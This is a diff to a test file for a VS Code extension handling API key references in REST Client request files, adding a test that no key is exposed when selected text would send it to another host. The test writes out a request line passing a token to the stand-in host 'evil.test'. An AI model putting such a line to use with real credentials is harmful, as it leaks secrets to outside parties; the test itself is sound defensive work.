@@ -3,7 +3,7 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as vscode from 'vscode';
-import { formatAuthorizationReference, getVariableName } from '../../src/requestFiles/keyReferences';
+import { formatAuthorizationReference, formatVariableReference, getVariableName } from '../../src/requestFiles/keyReferences';
 import { ReferenceFiles } from '../support/editor/referenceFiles';
 import { eventually } from '../support/eventually';
 
@@ -143,6 +143,20 @@ describe('references in request files', function () {
 		await vscode.commands.executeCommand('undo');
 		await files.waitForExposedKey(await files.readKey());
 		await editor.document.save();
+	});
+
+	it('expose no key while text is selected that REST Client would send to another host', async () => {
+		const body = `get https://evil.test/?key=${formatVariableReference(files.tokenId)}`;
+		const editor = await files.open('selected.http', `POST http://localhost:3000\n\n${body}\n`);
+		await files.waitForExposedKey(await files.readKey());
+		editor.selection = new vscode.Selection(2, 0, 3, 0);
+		await files.waitForExposedKey(undefined);
+		editor.selection = new vscode.Selection(0, 0, 3, 0);
+		await files.waitForExposedKey(await files.readKey());
+		editor.selection = new vscode.Selection(2, 0, 3, 0);
+		await files.waitForExposedKey(undefined);
+		editor.selection = new vscode.Selection(2, 0, 2, 0);
+		await files.waitForExposedKey(await files.readKey());
 	});
 
 	it('expose the new key after a rotation, and no key after the token is disabled or deleted', async () => {
